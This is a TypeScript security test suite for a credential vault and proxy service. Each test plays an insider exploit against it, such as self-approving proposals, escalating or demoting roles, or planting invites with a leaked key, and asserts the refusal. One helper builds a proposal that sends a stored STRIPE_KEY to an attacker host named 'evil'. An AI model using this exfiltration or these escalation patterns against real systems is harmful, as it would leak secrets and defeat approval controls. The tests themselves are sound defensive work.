/**
 * The invariants of docs/security.md, each as the exploit that once broke it, run as an attacker
 * inside the company would, and refused. Those about tokens (revocation racing a gate load,
 * forged and unreadable tokens) are in authorization-tokens.spec.ts.
 */
import { runDurableObjectAlarm, SELF } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { agentGate, BASE, call, createCompany, createUser, createVault, inviteAgent, unique } from "./helpers.ts";
import { recorded, requestId, upstreamUrl } from "./upstream.ts";

async function grantUser(ownerKey: string, vault: string, email: string, role: string) {
  expect((await call("POST", `/v1/vaults/${vault}/users`, { token: ownerKey, body: { email, role } })).status).toBe(200);
}

/** A vault with STRIPE_KEY stored and sent to one service, as an admin set it up. */
async function stripeVault() {
  const company = await createCompany();
  const vault = await createVault(company.ownerKey);
  await call("POST", "/v1/credentials", { token: company.ownerKey, body: { vault, credentials: { STRIPE_KEY: "sk_live_admins_secret" } } });
  const created = await call("POST", `/v1/vaults/${vault}/services`, {
    token: company.ownerKey,
    body: { name: "stripe", host: "api.stripe.com", auth: { type: "bearer", token: "STRIPE_KEY" } },
  });
  expect(created.status).toBe(201);
  return { company, vault };
}

/** The exploit: a service proposal that sends the stored STRIPE_KEY to a host of the raiser's choosing. */
const exfiltration = (host: string) => ({
  services: [{ action: "set", name: "collector", host, upstream: upstreamUrl(), auth: { type: "bearer", token: "STRIPE_KEY" } }],
  message: "need this",
});

describe("no self-approval, no self-promotion", () => {
  it("an owner agent cannot mint an API key or a person, and so cannot sign in and approve its own proposal", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const agent = await inviteAgent(company.ownerKey, undefined, [], "owner");
    const key = await call("POST", "/v1/api-keys", { token: agent.token, body: { label: "mine" } });
    expect(key).toMatchObject({ status: 403, body: { error: "forbidden" } });
    const email = `${unique("me")}@example.com`;
    const person = await call("POST", "/v1/users", { token: agent.token, body: { email, role: "owner", password: "correct horse battery staple" } });
    expect(person.status).toBe(403);
    expect((await call("POST", "/v1/auth/sign-in", { body: { email, password: "correct horse battery staple" } })).status).toBe(401);
    const raised = await call("POST", "/v1/proposals", { token: agent.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "NEW_KEY" }] } });
    expect(raised.status).toBe(201);
    const decided = await call("POST", `/v1/proposals/${raised.body.id as string}/approve`, { token: agent.token, body: { credentials: { NEW_KEY: "x" } } });
    expect(decided).toMatchObject({ status: 403, body: { error: "human_required" } });
    // Nor signing keys, nor registrations.
    expect((await call("POST", "/v1/company/signing-keys/rotate?force=true", { token: agent.token })).status).toBe(403);
    expect((await call("GET", "/v1/registrations", { token: agent.token })).status).toBe(403);
  });

  it("nobody decides a proposal they raised, or one raised by a session they minted", async () => {
    const { company, vault } = await stripeVault();
    const member = await createUser(company);
    await grantUser(company.ownerKey, vault, member.email, "admin");
    const own = await call("POST", "/v1/proposals", { token: member.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "MINE" }] } });
    const refused = await call("POST", `/v1/proposals/${own.body.id as string}/approve`, { token: member.token, body: { credentials: { MINE: "v" } } });
    expect(refused).toMatchObject({ status: 403, body: { error: "own_proposal" } });
    expect((await call("POST", `/v1/proposals/${own.body.id as string}/reject`, { token: member.token, body: { reason: "never mind" } })).body.error).toBe(
      "own_proposal",
    );

    const session = await call("POST", "/v1/sessions", { token: member.token, body: { vault } });
    const viaSession = await call("POST", "/v1/proposals", { token: session.body.token as string, body: { credentials: [{ key: "THROUGH_SESSION" }] } });
    expect(viaSession.status).toBe(201);
    const again = await call("POST", `/v1/proposals/${viaSession.body.id as string}/approve`, {
      token: member.token,
      body: { credentials: { THROUGH_SESSION: "v" } },
    });
    expect(again).toMatchObject({ status: 403, body: { error: "own_proposal" } });
    // Someone else decides it.
    const owner = await createUser(company, "owner");
    expect(
      (await call("POST", `/v1/proposals/${viaSession.body.id as string}/approve`, { token: owner.token, body: { credentials: { THROUGH_SESSION: "v" } } }))
        .status,
    ).toBe(200);
  });
});

describe("approval needs the power the change needs", () => {
  it("a member's exfiltration proposal is refused to the member and to other members; a vault admin sees it marked", async () => {
    const { company, vault } = await stripeVault();
    const attacker = await createUser(company);
    const colleague = await createUser(company);
    const admin = await createUser(company);
    await grantUser(company.ownerKey, vault, attacker.email, "member");
    await grantUser(company.ownerKey, vault, colleague.email, "member");
    await grantUser(company.ownerKey, vault, admin.email, "admin");
    const host = `${unique("evil")}.example.com`;
    // Creating the service directly needs admin…
    const direct = { name: "collector", host, upstream: upstreamUrl(), auth: { type: "bearer", token: "STRIPE_KEY" } };
    expect((await call("POST", `/v1/vaults/${vault}/services`, { token: attacker.token, body: direct })).status).toBe(403);
    // …so the attacker proposes it, and cannot approve it, nor can a fellow member.
    const raised = await call("POST", "/v1/proposals", { token: attacker.token, headers: { "X-Vault": vault }, body: exfiltration(host) });
    expect(raised.status).toBe(201);
    const id = raised.body.id as string;
    expect((await call("POST", `/v1/proposals/${id}/approve`, { token: attacker.token, body: {} })).body.error).toBe("own_proposal");
    expect((await call("POST", `/v1/proposals/${id}/approve`, { token: colleague.token, body: {} })).body).toMatchObject({ error: "admin_required" });

    // The API view says where the stored credential would go, and where it goes today.
    const view = await call("GET", `/v1/proposals/${id}`, { token: admin.token });
    expect(view.body.services).toMatchObject([{ name: "collector", exposes: [{ key: "STRIPE_KEY", sent_to: ["https://api.stripe.com"] }] }]);
    // The approval page says it plainly, as the vault stands now.
    const signIn = await call("POST", "/v1/auth/sign-in", { body: { email: admin.email, password: admin.password, mode: "cookie" } });
    const cookie = (signIn.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
    const page = await (await SELF.fetch(`${BASE}${new URL(raised.body.approval_url as string).pathname}`, { headers: { Cookie: cookie } })).text();
    expect(page).toContain("The stored credential <code>STRIPE_KEY</code> would be sent to");
    expect(page).toContain("today it goes only to <code>https://api.stripe.com</code>");
    expect(page).not.toContain("sk_live_admins_secret");

    // Nothing reached the attacker's host.
    const probe = requestId();
    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
    const tried = await SELF.fetch(`${BASE}/proxy/${host}/r/${probe}/x`, { headers: { Authorization: `Bearer ${agent.token}`, "X-Vault": vault } });
    expect(tried.status).toBe(403);
    expect(await recorded(probe)).toEqual([]);
  });

  it("a credential-only proposal can be decided by a member; a replacement is marked old → new", async () => {
    const { company, vault } = await stripeVault();
    const raiser = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
    const member = await createUser(company);
    await grantUser(company.ownerKey, vault, member.email, "member");
    const values = await call("POST", "/v1/proposals", {
      token: raiser.token,
      headers: { "X-Vault": vault },
      body: { credentials: [{ key: "STRIPE_KEY" }, { key: "NEW_ONE" }] },
    });
    expect(values.body).toMatchObject({ status: "pending" });
    const read = await call("GET", `/v1/proposals/${values.body.id as string}`, { token: member.token });
    expect(read.body.credentials).toMatchObject([{ key: "STRIPE_KEY", replaces_existing: true }, { key: "NEW_ONE" }]);
    expect((read.body.credentials as { replaces_existing?: boolean }[])[1]?.replaces_existing).toBeUndefined();
    expect(
      (
        await call("POST", `/v1/proposals/${values.body.id as string}/approve`, {
          token: member.token,
          body: { credentials: { STRIPE_KEY: "sk_new", NEW_ONE: "n" } },
        })
      ).status,
    ).toBe(200);

    const replace = await call("POST", "/v1/proposals", {
      token: raiser.token,
      headers: { "X-Vault": vault },
      body: { services: [{ name: "stripe", host: "api.stripe.com", upstream: "https://mirror.example.net", auth: { type: "bearer", token: "STRIPE_KEY" } }] },
    });
    const marked = await call("GET", `/v1/proposals/${replace.body.id as string}`, { token: member.token });
    expect(marked.body.services).toMatchObject([
      { name: "stripe", replaces: { host: "api.stripe.com", auth_type: "bearer" }, exposes: [{ key: "STRIPE_KEY", sent_to: ["https://api.stripe.com"] }] },
    ]);
  });
});

describe("roles move only by those above them", () => {
  it("re-adding an admin agent as proxy is refused to a member and to a fellow admin; the role stays", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const adminAgent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "admin" }]);
    const member = await createUser(company);
    const fellowAdmin = await createUser(company);
    await grantUser(company.ownerKey, vault, member.email, "member");
    await grantUser(company.ownerKey, vault, fellowAdmin.email, "admin");
    const demote = await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: adminAgent.name, role: "proxy" } });
    expect(demote).toMatchObject({ status: 403, body: { error: "role_above_granter" } });
    expect((await call("PATCH", `/v1/vaults/${vault}/agents/${adminAgent.name}`, { token: fellowAdmin.token, body: { role: "proxy" } })).body.error).toBe(
      "role_above_granter",
    );
    expect((await call("DELETE", `/v1/vaults/${vault}/agents/${adminAgent.name}`, { token: fellowAdmin.token })).body.error).toBe("role_above_granter");
    const listed = await call("GET", `/v1/vaults/${vault}/agents`, { token: company.ownerKey });
    expect(listed.body.agents).toMatchObject([{ agent: adminAgent.name, role: "admin" }]);
    // Nobody grants above their own role; a company owner moves any role.
    const other = await inviteAgent(company.ownerKey);
    expect((await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: other.name, role: "admin" } })).body.error).toBe(
      "grant_exceeds_own_role",
    );
    expect((await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: other.name, role: "member" } })).status).toBe(200);
    // Re-adding at the same role is not a change.
    expect((await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: other.name, role: "member" } })).status).toBe(200);
    expect((await call("PATCH", `/v1/vaults/${vault}/agents/${adminAgent.name}`, { token: company.ownerKey, body: { role: "proxy" } })).status).toBe(200);
    // The same rule for people's grants.
    const fellowUser = await call("GET", `/v1/vaults/${vault}/users`, { token: company.ownerKey });
    const fellowId = (fellowUser.body.users as { user_id: string; email: string }[]).find((u) => u.email === fellowAdmin.email)?.user_id;
    const admin2 = await createUser(company);
    await grantUser(company.ownerKey, vault, admin2.email, "admin");
    expect((await call("PATCH", `/v1/vaults/${vault}/users/${fellowId ?? ""}`, { token: admin2.token, body: { role: "member" } })).body.error).toBe(
      "role_above_granter",
    );
  });
});

describe("an owner agent never acts on a fellow owner agent", () => {
  it("rotate, disable, re-configure and delete are 403 role_above_granter; itself and member agents it manages; a person owner or a key may", async () => {
    const company = await createCompany();
    const boss = await inviteAgent(company.ownerKey, undefined, [], "owner");
    const peer = await inviteAgent(company.ownerKey, undefined, [], "owner");
    const refusals = [
      await call("POST", `/v1/agents/${peer.name}/rotate`, { token: boss.token }),
      await call("PATCH", `/v1/agents/${peer.name}`, { token: boss.token, body: { status: "disabled" } }),
      await call("PATCH", `/v1/agents/${peer.name}`, { token: boss.token, body: { capabilities: [] } }),
      await call("DELETE", `/v1/agents/${peer.name}`, { token: boss.token }),
    ];
    for (const refused of refusals) expect(refused).toMatchObject({ status: 403, body: { error: "role_above_granter" } });
    // The peer is untouched: still active, still an owner, its token still works.
    expect((await call("GET", "/v1/whoami", { token: peer.token })).body).toMatchObject({ company_role: "owner" });
    // Owner agents still manage member agents, and their own metadata.
    const member = await inviteAgent(company.ownerKey);
    expect((await call("POST", `/v1/agents/${member.name}/rotate`, { token: boss.token })).status).toBe(201);
    expect((await call("PATCH", `/v1/agents/${boss.name}`, { token: boss.token, body: { metadata: { team: "ops" } } })).status).toBe(200);
    // Someone above both may.
    expect((await call("PATCH", `/v1/agents/${peer.name}`, { token: company.ownerKey, body: { status: "disabled" } })).status).toBe(200);
    expect((await call("DELETE", `/v1/agents/${peer.name}`, { token: company.ownerKey })).status).toBe(200);
  });
});

describe("budgets follow the root principal", () => {
  it("an agent throttled to 2 requests gets 2 in all, however many sessions it mints; refusals are one counted row per actor", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const host = `${unique("api")}.example.com`;
    await call("POST", `/v1/vaults/${vault}/services`, {
      token: company.ownerKey,
      body: { name: "svc", host, upstream: upstreamUrl(), auth: { type: "passthrough" } },
    });
    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "member" }]);
    await call("PATCH", `/v1/agents/${agent.name}`, { token: company.ownerKey, body: { rate_limit: { burst: 2, rate_per_second: 0.01 } } });
    const minted = [];
    for (let i = 0; i < 3; i++) minted.push(await call("POST", "/v1/sessions", { token: agent.token, body: { vault } }));
    expect(minted.map((m) => m.status)).toEqual([201, 201, 201]);
    const sessions = minted.map((m) => m.body.token as string);
    const [s1 = "", s2 = "", s3 = ""] = minted.map((m) => m.body.id as string);
    const tokens = [agent.token, ...sessions, ...sessions, ...sessions];
    const statuses = [];
    for (const token of tokens) {
      const res = await SELF.fetch(`${BASE}/proxy/${host}/r/${requestId()}/x`, { headers: { Authorization: `Bearer ${token}`, "X-Vault": vault } });
      await res.arrayBuffer();
      statuses.push(res.status);
    }
    expect(statuses.filter((s) => s === 200)).toHaveLength(2);
    expect(statuses.filter((s) => s === 429)).toHaveLength(tokens.length - 2);
    expect(await runDurableObjectAlarm(await agentGate(company.id, agent.name))).toBe(true);
    const logs = await call("GET", `/v1/vaults/${vault}/logs?status=429`, { token: company.ownerKey });
    const rows = logs.body.entries as { actor_type: string; actor_id: string; count: number }[];
    // One row per refused actor, counting every refusal: the agent and the first session spent the
    // burst, so the refused are the three sessions (the first twice, the others three times each).
    expect(rows).toHaveLength(3);
    const byActor = Object.fromEntries(rows.map((r) => [r.actor_id, `${r.actor_type} ×${r.count}`]));
    expect(byActor).toEqual({ [s1]: "vault_session ×2", [s2]: "vault_session ×3", [s3]: "vault_session ×3" });
    expect(rows.reduce((sum, r) => sum + r.count, 0)).toBe(tokens.length - 2);
  });
});

describe("delegation never outlives its source: invites", () => {
  it("an invite is void once its creator could no longer create it: removed, revoked or demoted", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    // A member invites an agent into the vault, then is removed from the company.
    const member = await createUser(company);
    await grantUser(company.ownerKey, vault, member.email, "member");
    const byMember = await call("POST", "/v1/agents/invites", {
      token: member.token,
      body: { name: unique("left-behind"), vaults: [{ vault, role: "member" }] },
    });
    expect(byMember.status).toBe(201);
    const memberId = (await call("GET", "/v1/whoami", { token: member.token })).body.id as string;
    await call("DELETE", `/v1/users/${memberId}`, { token: company.ownerKey });
    const redeemed = await call("POST", new URL(byMember.body.invite_url as string).pathname);
    expect(redeemed).toMatchObject({ status: 410, body: { error: "invite_revoked" } });

    // A leaked API key invites an owner person and an owner agent, then is revoked.
    const key = await call("POST", "/v1/api-keys", { token: company.ownerKey, body: { label: "leaked" } });
    const person = await call("POST", "/v1/users", { token: key.body.token as string, body: { email: `${unique("planted")}@example.com`, role: "owner" } });
    const ownerAgent = await call("POST", "/v1/agents/invites", { token: key.body.token as string, body: { name: unique("planted"), role: "owner" } });
    await call("DELETE", `/v1/api-keys/${key.body.id as string}`, { token: company.ownerKey });
    const accepted = await call("POST", "/v1/users/accept", {
      body: { token: (person.body.invite as { token: string }).token, password: "correct horse battery staple" },
    });
    expect(accepted).toMatchObject({ status: 410, body: { error: "invite_revoked" } });
    expect((await call("POST", new URL(ownerAgent.body.invite_url as string).pathname)).status).toBe(410);

    // An owner agent invites an owner agent, then is demoted to member.
    const inviter = await inviteAgent(company.ownerKey, undefined, [], "owner");
    const planted = await call("POST", "/v1/agents/invites", { token: inviter.token, body: { name: unique("planted"), role: "owner" } });
    await call("PATCH", `/v1/agents/${inviter.name}`, { token: company.ownerKey, body: { role: "member" } });
    expect((await call("POST", new URL(planted.body.invite_url as string).pathname)).status).toBe(410);

    // While its creator still could, an invite works as ever.
    const fine = await call("POST", "/v1/agents/invites", { token: company.ownerKey, body: { name: unique("fine"), vaults: [{ vault, role: "proxy" }] } });
    expect((await call("POST", new URL(fine.body.invite_url as string).pathname)).status).toBe(200);
  });
});

describe("company owners rank above every vault role", () => {
  it("no grant can lower an owner agent or person, and their sessions keep working", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const ownerAgent = await inviteAgent(company.ownerKey, undefined, [], "owner");
    const owner = await createUser(company, "owner");
    const member = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "admin" }]);
    const demoteAgent = await call("POST", `/v1/vaults/${vault}/agents`, { token: member.token, body: { agent: ownerAgent.name, role: "proxy" } });
    expect(demoteAgent).toMatchObject({ status: 409, body: { error: "grantee_is_owner" } });
    const admin = await createUser(company);
    await grantUser(company.ownerKey, vault, admin.email, "admin");
    expect((await call("POST", `/v1/vaults/${vault}/users`, { token: admin.token, body: { email: owner.email, role: "proxy" } })).body.error).toBe(
      "grantee_is_owner",
    );
    const session = await call("POST", "/v1/sessions", { token: owner.token, body: { vault } });
    expect((await call("GET", "/v1/credentials", { token: session.body.token as string })).status).toBe(200);
  });
});

describe("agents never lift their own limits, and lose what they lose", () => {
  it("an owner agent cannot change its own role, status, capabilities or rate limit", async () => {
    const company = await createCompany();
    const agent = await inviteAgent(company.ownerKey, undefined, [], "owner");
    for (const body of [{ rate_limit: null }, { capabilities: ["system_command"] }, { status: "active" }, { role: "owner" }]) {
      const res = await call("PATCH", `/v1/agents/${agent.name}`, { token: agent.token, body });
      expect(res, JSON.stringify(body)).toMatchObject({ status: 403, body: { error: "self_change" } });
    }
    // Other agents it may manage (seed 002).
    const other = await inviteAgent(company.ownerKey);
    expect((await call("PATCH", `/v1/agents/${other.name}`, { token: agent.token, body: { capabilities: ["api_call"] } })).status).toBe(200);
  });

  it("a raiser that lost its vault no longer reads its proposals", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
    const raised = await call("POST", "/v1/proposals", { token: agent.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "K" }] } });
    expect((await call("GET", `/v1/proposals/${raised.body.id as string}`, { token: agent.token })).status).toBe(200);
    await call("DELETE", `/v1/vaults/${vault}/agents/${agent.name}`, { token: company.ownerKey });
    expect((await call("GET", `/v1/proposals/${raised.body.id as string}?wait=1`, { token: agent.token })).status).toBe(404);
  });

  it("a session never outlives the sign-in that minted it", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const user = await createUser(company);
    await grantUser(company.ownerKey, vault, user.email, "member");
    const signIn = await call("POST", "/v1/auth/sign-in", { body: { email: user.email, password: user.password, mode: "cookie" } });
    const cookie = (signIn.headers.get("set-cookie") ?? "").split(";")[0] ?? "";
    const minted = await call("POST", "/v1/sessions", {
      headers: { Cookie: cookie, "X-CSRF-Token": signIn.body.csrf_token as string },
      body: { vault, ttl_seconds: 7 * 24 * 3600 },
    });
    expect(minted.status).toBe(201);
    expect(Date.parse(minted.body.expires_at as string)).toBeLessThanOrEqual(Date.parse(signIn.body.expires_at as string));
  });
});

describe("the proxy forwards only what it should", () => {
  it("TRACE and other methods are refused before any credential is injected; non-credential tokens are 401", async () => {
    const company = await createCompany();
    const vault = await createVault(company.ownerKey);
    const host = `${unique("api")}.example.com`;
    await call("POST", `/v1/vaults/${vault}/services`, {
      token: company.ownerKey,
      body: { name: "svc", host, upstream: upstreamUrl(), auth: { type: "bearer", token: "K" } },
    });
    await call("POST", "/v1/credentials", { token: company.ownerKey, body: { vault, credentials: { K: "sk_trace_secret" } } });
    const agent = await inviteAgent(company.ownerKey, undefined, [{ vault, role: "proxy" }]);
    for (const method of ["TRACE", "PROPFIND", "MKCOL"]) {
      const id = requestId();
      const res = await SELF.fetch(`${BASE}/proxy/${host}/r/${id}/x`, { method, headers: { Authorization: `Bearer ${agent.token}`, "X-Vault": vault } });
      expect(res.status, method).toBe(405);
      expect(res.headers.get("allow")).toContain("GET");
      expect(await res.text()).not.toContain("sk_trace_secret");
      expect(await recorded(id)).toEqual([]);
    }
    const raised = await call("POST", "/v1/proposals", { token: agent.token, headers: { "X-Vault": vault }, body: { credentials: [{ key: "X" }] } });
    const approvalToken = new URL(raised.body.approval_url as string).searchParams.get("token") ?? "";
    const withApproval = await SELF.fetch(`${BASE}/proxy/${host}/x`, { headers: { Authorization: `Bearer ${approvalToken}`, "X-Vault": vault } });
    expect(withApproval.status).toBe(401);
  });
});
